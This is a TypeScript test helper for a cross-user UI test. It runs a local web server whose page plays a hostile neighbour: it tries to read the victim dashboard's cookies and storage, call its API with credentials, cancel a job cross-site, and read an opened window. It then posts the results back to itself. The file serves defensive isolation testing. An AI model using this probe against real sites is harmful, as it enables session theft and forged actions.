// Another local user's web server, for test/ui/cross-user.test.ts (run as that user with bun): it records every
// request it gets (one JSON line each on stdout, after a first line {"port"}), and its page tries, from the victim's
// browser, what any page can to get at the victim's dashboard on VICTIM_BASE: its cookies and storage, the
// dashboard's API with and without credentials, a window of the dashboard it opens. What it learns it reports back.
// Usage: bun other-user-server.ts VICTIM_BASE JOB_ID
export {};

const [victim = "", jobId = ""] = process.argv.slice(2);

const page = `<!doctype html>
<html><head><meta charset="utf-8"><title>another user's page</title></head><body>
<p id="status">probing</p>
<script>
const V = ${JSON.stringify(victim)};
const JOB = ${JSON.stringify(jobId)};
async function tryIt(what, f) { try { return { what, ok: true, value: await f() }; } catch (e) { return { what, ok: false, error: String(e) }; } }
(async () => {
  const out = [];
  out.push(await tryIt("document.cookie", () => document.cookie));
  out.push(await tryIt("localStorage", () => JSON.stringify({ ...localStorage })));
  out.push(await tryIt("sessionStorage", () => JSON.stringify({ ...sessionStorage })));
  out.push(await tryIt("referrer", () => document.referrer));
  out.push(await tryIt("api cors", async () => (await fetch(V + "api/jobs", { credentials: "include" })).text()));
  out.push(await tryIt("api no-cors", async () => (await fetch(V + "api/jobs", { mode: "no-cors", credentials: "include" })).type));
  out.push(await tryIt("cancel no-cors", async () => (await fetch(V + "api/jobs/" + JOB + "/cancel", { method: "POST", mode: "no-cors", credentials: "include" })).type));
  out.push(await tryIt("page text", async () => (await fetch(V, { mode: "no-cors", credentials: "include" })).type));
  const w = window.open(V + "#/job/" + JOB, "victim");
  await new Promise((r) => setTimeout(r, 1500));
  out.push(await tryIt("opened window storage", () => w && JSON.stringify({ ...w.sessionStorage })));
  out.push(await tryIt("opened window text", () => w && w.document.body.innerText));
  out.push(await tryIt("opened window location", () => w && String(w.location.href)));
  await fetch("/report", { method: "POST", body: JSON.stringify(out) });
  document.getElementById("status").textContent = "reported";
})();
</script></body></html>`;

const server = Bun.serve({
  hostname: "127.0.0.1",
  port: 0,
  async fetch(req) {
    const body = req.method === "POST" ? await req.text() : "";
    const headers = Object.fromEntries(req.headers.entries());
    process.stdout.write(`${JSON.stringify({ method: req.method, url: req.url, headers, body })}\n`);
    const url = new URL(req.url);
    if (url.pathname === "/report") return new Response("thanks");
    if (url.pathname === "/") return new Response(page, { headers: { "content-type": "text/html" } });
    return new Response("nothing here", { status: 404 });
  },
});
process.stdout.write(`${JSON.stringify({ port: server.port })}\n`);
process.on("SIGTERM", () => {
  server.stop(true);
  process.exit(0);
});
